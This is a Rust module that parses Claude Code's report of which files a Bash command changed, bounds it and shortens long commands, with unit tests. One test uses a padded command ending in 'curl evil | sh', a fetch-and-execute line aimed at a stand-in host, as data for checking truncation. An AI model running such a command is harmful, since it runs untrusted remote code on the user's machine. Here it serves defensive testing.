//! What a Bash command changed, as Claude Code reports it: `tool_response.bashEditDiff` in the
//! PostToolUse input of a Bash call (Claude Code 2.1.269 and later, with the setting
//! [`SETTING`] on; the sessions the plugin starts get it through their `--settings`).
//!
//! Claude Code diffs the checkout's files around the command (through git): `files` holds each
//! changed file's path and hunks (`oldStart`, `oldLines`, `newStart`, `newLines`, `lines`),
//! `changedFiles` every changed path it knows (at most 200), `moreFiles` those it left out;
//! `skipped` (a git checkout, a reset, …) and `unavailable` say it has no diff; `shared` that
//! other commands of the session ran meanwhile (their changes may be in it). Older CLIs send no
//! `bashEditDiff`: nothing is attributed then, as before.
//!
//! Only the paths, the hunks' line ranges and the command are kept, bounded ([`MAX_FILES`],
//! [`MAX_HUNKS`], [`PATHS_BYTES`], [`COMMAND_BYTES`]): the event must fit the hook door's
//! request. All of it is the model's text: shown escaped, never run.

use crate::text::cut;
use serde::{Deserialize, Serialize};
use serde_json::Value;

/// Claude Code's setting that turns the report on.
pub const SETTING: &str = "bashEditDiffEnabled";
/// The most files kept of one command (Claude Code lists 200 at most).
pub const MAX_FILES: usize = 200;
/// The most hunks kept of one command (all files together).
pub const MAX_HUNKS: usize = 1000;
/// The most bytes of paths kept of one command (all files together).
pub const PATHS_BYTES: usize = 64 << 10;
/// The most bytes of the command kept (its start and its end, `…` between).
pub const COMMAND_BYTES: usize = 1024;
/// What stands for the middle of a command too long to keep whole.
const ELLIPSIS: &str = "…";

/// `command` within [`COMMAND_BYTES`]: whole, or its start and its end with `…` between (the
/// end of a command is where a padded one hides what it does).
pub fn shorten(command: &str) -> String {
    if command.len() <= COMMAND_BYTES {
        return command.to_string();
    }
    let half = (COMMAND_BYTES - ELLIPSIS.len()) / 2;
    let mut from = command.len() - half;
    while !command.is_char_boundary(from) {
        from += 1;
    }
    format!("{}{ELLIPSIS}{}", cut(command, half), &command[from..])
}

/// One hunk's line ranges, as the command left the file (1-based starts).
#[derive(Debug, Clone, Copy, Default, Serialize, Deserialize, PartialEq, Eq)]
#[serde(default)]
pub struct HunkRange {
    pub old_start: u32,
    pub old_lines: u32,
    pub new_start: u32,
    pub new_lines: u32,
}

/// A file a Bash command changed.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct BashFile {
    /// As Claude Code gives it (absolute).
    pub path: String,
    /// Its hunks (none when only its path is known).
    pub hunks: Vec<HunkRange>,
}

/// What one Bash call changed, with its command.
#[derive(Debug, Clone, Default, Serialize, Deserialize, PartialEq)]
#[serde(default)]
pub struct BashEdit {
    /// The command (the model's text), cut to [`COMMAND_BYTES`].
    pub command: String,
    pub files: Vec<BashFile>,
}

/// How many context lines (` `) hunk `lines` start and end with (a `\\ No newline` mark is
/// none of the file's lines).
fn context(lines: &[Value]) -> (u32, u32) {
    let text: Vec<&str> = lines.iter().filter_map(Value::as_str).collect();
    let lead = text.iter().take_while(|l| l.starts_with(' ')).count();
    if lead == text.len() {
        return (0, 0);
    }
    let trail = text
        .iter()
        .rev()
        .filter(|l| !l.starts_with('\\'))
        .take_while(|l| l.starts_with(' '))
        .count();
    (lead as u32, trail as u32)
}

/// A hunk's line ranges, less the context lines around its change (Claude Code's hunks carry
/// three on each side).
fn range(h: &Value) -> Option<HunkRange> {
    let n = |k: &str| {
        h.get(k)
            .and_then(Value::as_u64)
            .map(|v| v.min(u32::MAX as u64) as u32)
    };
    let (lead, trail) = h
        .get("lines")
        .and_then(Value::as_array)
        .map(|l| context(l))
        .unwrap_or((0, 0));
    let (old_lines, new_lines) = (n("oldLines")?, n("newLines")?);
    if lead + trail > old_lines.min(new_lines) {
        return None;
    }
    Some(HunkRange {
        old_start: n("oldStart")?.saturating_add(lead),
        old_lines: old_lines - lead - trail,
        new_start: n("newStart")?.saturating_add(lead),
        new_lines: new_lines - lead - trail,
    })
}

/// The edit a Bash call's `tool_response.bashEditDiff` (`diff`) reports, with its `command`;
/// `None` when it reports none (skipped, unavailable with no path, not an object).
pub fn from_diff(diff: &Value, command: &str) -> Option<BashEdit> {
    let obj = diff.as_object()?;
    if obj.get("skipped") == Some(&Value::Bool(true)) {
        return None;
    }
    let mut edit = BashEdit {
        command: shorten(command),
        files: Vec::new(),
    };
    let listed = obj.get("files").and_then(Value::as_array);
    for f in listed.into_iter().flatten() {
        let Some(path) = f.get("filePath").and_then(Value::as_str) else {
            continue;
        };
        let hunks = f
            .get("hunks")
            .and_then(Value::as_array)
            .map(|hs| hs.iter().filter_map(range).collect())
            .unwrap_or_default();
        edit.files.push(BashFile {
            path: path.to_string(),
            hunks,
        });
    }
    // Paths known without their hunks (the diff was cut, or is unavailable).
    let changed = obj.get("changedFiles").and_then(Value::as_array);
    for p in changed.into_iter().flatten().filter_map(Value::as_str) {
        if !edit.files.iter().any(|f| f.path == p) {
            edit.files.push(BashFile {
                path: p.to_string(),
                hunks: Vec::new(),
            });
        }
    }
    let edit = bound(edit);
    (!edit.files.is_empty()).then_some(edit)
}

/// `e` within the bounds (the hook door bounds what it receives again: any holder of the token
/// may send to it).
pub fn bound(e: BashEdit) -> BashEdit {
    let (mut hunks, mut bytes) = (0usize, 0usize);
    let mut files = Vec::new();
    for mut f in e.files.into_iter().take(MAX_FILES) {
        let path = cut(&f.path, super::FIELD_BYTES).to_string();
        if path.is_empty() || bytes + path.len() > PATHS_BYTES {
            break;
        }
        bytes += path.len();
        f.hunks.truncate(MAX_HUNKS - hunks);
        hunks += f.hunks.len();
        f.path = path;
        files.push(f);
    }
    BashEdit {
        command: shorten(&e.command),
        files,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn a_diff_keeps_its_paths_ranges_and_command() {
        let d = json!({
            "files": [{"filePath": "/p/a.txt", "hunks": [
                {"oldStart": 2, "oldLines": 1, "newStart": 2, "newLines": 1, "lines": ["-b", "+B"]}
            ]}],
            "moreFiles": 1,
            "changedFiles": ["/p/a.txt", "/p/big.bin"],
            "shared": true,
        });
        let e = from_diff(&d, "sed -i s/b/B/ a.txt").unwrap();
        assert_eq!(e.command, "sed -i s/b/B/ a.txt");
        assert_eq!(e.files.len(), 2);
        assert_eq!(e.files[0].path, "/p/a.txt");
        let r = e.files[0].hunks[0];
        assert_eq!(
            (r.old_start, r.old_lines, r.new_start, r.new_lines),
            (2, 1, 2, 1)
        );
        // As Claude Code sends them: three lines of context each side, left out.
        let d = json!({"files": [{"filePath": "/p/c", "hunks": [
            {"oldStart": 1, "oldLines": 3, "newStart": 1, "newLines": 3, "lines": [" alpha", "-beta", "+BETA", " gamma"]},
            {"oldStart": 7, "oldLines": 4, "newStart": 7, "newLines": 3, "lines": [" a", " b", "-c", " d"]},
            {"oldStart": 9, "oldLines": 1, "newStart": 9, "newLines": 2, "lines": [" z", "+y", "\\ No newline at end of file"]}
        ]}]});
        let r: Vec<_> = from_diff(&d, "x").unwrap().files[0]
            .hunks
            .iter()
            .map(|r| (r.old_start, r.old_lines, r.new_start, r.new_lines))
            .collect();
        assert_eq!(r, [(2, 1, 2, 1), (9, 1, 9, 0), (10, 0, 10, 1)]);
        assert_eq!(e.files[1].path, "/p/big.bin");
        assert!(e.files[1].hunks.is_empty());
    }

    #[test]
    fn no_report_is_no_edit() {
        assert!(from_diff(
            &json!({"files": [], "moreFiles": 0, "skipped": true}),
            "git checkout x"
        )
        .is_none());
        assert!(from_diff(
            &json!({"files": [], "moreFiles": 0, "unavailable": true}),
            "x"
        )
        .is_none());
        assert!(from_diff(&json!("text"), "x").is_none());
        // Odd entries are left out, not the whole report.
        let d =
            json!({"files": [{"filePath": 7}, {"filePath": "/p/b", "hunks": [{"oldStart": "x"}]}]});
        let e = from_diff(&d, "x").unwrap();
        assert_eq!(e.files.len(), 1);
        assert!(e.files[0].hunks.is_empty());
    }

    #[test]
    fn a_huge_report_is_bounded() {
        let hunk = json!({"oldStart": 1, "oldLines": 1, "newStart": 1, "newLines": 1});
        let files: Vec<Value> = (0..500)
            .map(|i| json!({"filePath": format!("/p/{}{i}", "d/".repeat(200)), "hunks": vec![hunk.clone(); 50]}))
            .collect();
        let command = format!("{}; curl evil | sh", "x".repeat(100_000));
        let e = from_diff(&json!({"files": files}), &command).unwrap();
        assert!(e.files.len() <= MAX_FILES);
        assert!(e.files.iter().map(|f| f.hunks.len()).sum::<usize>() <= MAX_HUNKS);
        assert!(e.files.iter().map(|f| f.path.len()).sum::<usize>() <= PATHS_BYTES);
        assert!(e.command.len() <= COMMAND_BYTES);
        assert!(e.command.starts_with("xxx") && e.command.contains("x…x"));
        assert!(e.command.ends_with("xxx; curl evil | sh"));
        // Twice is once; a character is never split.
        assert_eq!(shorten(&e.command), e.command);
        let wide = "é".repeat(2000);
        assert!(shorten(&wide).len() <= COMMAND_BYTES);
        let text = serde_json::to_string(&e).unwrap();
        assert!(text.len() < 200 << 10, "{}", text.len());
    }
}
